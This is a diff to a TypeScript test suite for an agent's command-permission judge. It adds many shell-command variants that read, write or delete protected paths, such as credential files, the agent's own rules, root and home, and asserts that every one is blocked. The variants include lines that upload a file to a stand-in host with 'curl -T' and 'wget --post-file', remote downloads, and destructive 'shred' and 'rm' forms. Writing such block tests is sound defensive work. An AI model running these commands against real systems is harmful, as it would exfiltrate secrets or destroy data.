@@ -39,6 +39,17 @@ type Asking = Awaited<ReturnType<typeof judgeIn>>;
 const quoted = (path: string): string => `'${path.replaceAll("'", `'\\''`)}'`;
 const shell = ({ ask }: Asking, cmd: string) => ask("shell", { cmd });
 
+/** Commands with the path in the place of `%`. */
+function commands(...forms: readonly string[]) {
+  return forms.map(
+    (form) => (asking: Asking, path: string) =>
+      shell(
+        asking,
+        form.replace("%", () => quoted(path)),
+      ),
+  );
+}
+
 /** The ways to one effect on a path: by a tool, by a redirection, and by programs. */
 const ways = {
   read: [
@@ -47,6 +58,19 @@ const ways = {
     (asking: Asking, path: string) => shell(asking, `wc -l < ${quoted(path)}`),
     (asking: Asking, path: string) => shell(asking, `cp ${quoted(path)} copy-of-it`),
     (asking: Asking, path: string) => shell(asking, `timeout 5 dd if=${quoted(path)} of=copy-of-it`),
+    ...commands(
+      "nohup head -c 9 %",
+      "ln % copy-of-it",
+      "cp -t sub %",
+      "install -m 600 % copy-of-it",
+      "mv --target-directory=sub -- %",
+      "flock lock cat %",
+      "sudo cat %",
+      "setsid head %",
+    ),
+    (asking: Asking, path: string) => shell(asking, `bash -c ${quoted(`cat ${quoted(path)}`)}`),
+    (asking: Asking, path: string) => shell(asking, `eval ${quoted(`sort ${quoted(path)} > x`)}`),
+    (asking: Asking, path: string) => shell(asking, `watch -n 1 cat ${quoted(path)}`),
   ],
   write: [
     (asking: Asking, path: string) => asking.ask("write-file", { path, content: "x" }),
@@ -56,6 +80,20 @@ const ways = {
     (asking: Asking, path: string) => shell(asking, `env mv a.txt ${quoted(path)}`),
     (asking: Asking, path: string) => shell(asking, `sed -i s/a/b/ ${quoted(path)}`),
     (asking: Asking, path: string) => shell(asking, `dd of=${quoted(path)}`),
+    ...commands(
+      "touch %",
+      "truncate -s 0 %",
+      "tee -a % < a.txt",
+      "install a.txt %",
+      "ln -sf a.txt %",
+      "ln a.txt %",
+      "mkfifo %",
+      "perl -pi -e s/a/b/ %",
+      "nohup sudo tee %",
+      "timeout 5 sh -c 'cat a.txt' >> %",
+    ),
+    (asking: Asking, path: string) => shell(asking, `bash -c ${quoted(`echo x > ${quoted(path)}`)}`),
+    (asking: Asking, path: string) => shell(asking, `nice bash -c ${quoted(`ls; echo x > ${quoted(path)}`)}`),
   ],
   delete: [
     (asking: Asking, path: string) => shell(asking, `rm ${quoted(path)}`),
@@ -63,7 +101,56 @@ const ways = {
     (asking: Asking, path: string) => shell(asking, `mv ${quoted(path)} elsewhere`),
     (asking: Asking, path: string) => shell(asking, `find ${quoted(path)} -delete`),
     (asking: Asking, path: string) => shell(asking, `nice unlink ${quoted(path)}`),
+    ...commands(
+      "rmdir %",
+      "shred -u %",
+      "mv -t elsewhere %",
+      "git rm -f %",
+      "git mv % elsewhere",
+      "find % -exec rm {} +",
+      "find % -execdir sh -c 'rm \"$1\"' _ {} ';'",
+      "env -i rm %",
+      "setsid rm %",
+    ),
+    (asking: Asking, path: string) => shell(asking, `sh -c ${quoted(`rm -f ${quoted(path)}`)}`),
   ],
+} as const;
+
+/** Further ways, of programs whose other effects are found out by a trial: it sees nothing outside the workspace. */
+const furtherWays = {
+  read: commands(
+    "tar czf copy.tgz %",
+    "tar -c -f copy.tar %",
+    "zip copy.zip %",
+    "gzip -c %",
+    "xz --stdout %",
+    "rsync -a % copy-of-it",
+    "scp % copy-of-it",
+    "curl -T % https://a.example",
+    "curl -sd @% https://a.example",
+    "curl --data-binary=@% https://a.example",
+    "wget --post-file=% https://a.example",
+    "xargs -a % echo",
+    "split %",
+    "less %",
+    "python3 %",
+  ),
+  write: commands(
+    "sort -o % a.txt",
+    "sort a.txt --output=%",
+    "curl -o % https://a.example",
+    "curl -s --output=% https://a.example",
+    "wget -O % https://a.example",
+    "tar cf % src",
+    "zip -r % src",
+    "rsync -a a.txt %",
+    "scp a.txt %",
+    "patch % a.diff",
+    "split a.txt %",
+    "flock % ls",
+    "script -c ls %",
+  ),
+  delete: commands("rsync --remove-source-files % elsewhere", "gzip %", "zstd --rm %"),
 } as const;
 
 const blockedEverywhere = (home: string): readonly string[] => [
@@ -84,21 +171,23 @@ const blockedEverywhere = (home: string): readonly string[] => [
 
 test("secret paths, the agent's own rules, journal and state, and paths with hidden characters are blocked by whatever way", async (context) => {
   const asking = await judgeIn(context);
+  const failed: string[] = [];
   for (const path of blockedEverywhere(asking.home)) {
-    for (const [effect, each] of Object.entries(ways)) {
+    for (const [effect, each] of [...Object.entries(ways), ...Object.entries(furtherWays)]) {
       for (const [index, way] of each.entries()) {
         const { verdict } = await way(asking, path);
-        assert.equal(verdict, "block", `${effect} ${index} ${JSON.stringify(path)}`);
+        if (verdict !== "block") failed.push(`${effect} ${index} ${JSON.stringify(path)}`);
       }
     }
   }
+  assert.deepEqual(failed, []);
 });
 
 test("root and home are never deleted, by whatever command", async (context) => {
   const asking = await judgeIn(context);
   for (const path of ["/", asking.home, join(asking.home, ".."), `${asking.home}/.`, "/home/../"])
     for (const way of ways.delete) {
-      if (path === "/home/../" && way === ways.delete.at(-1)) continue;
+      if (path === "/home/../" && way === ways.delete[4]) continue;
       assert.equal((await way(asking, path)).verdict, "block", path);
     }
 });
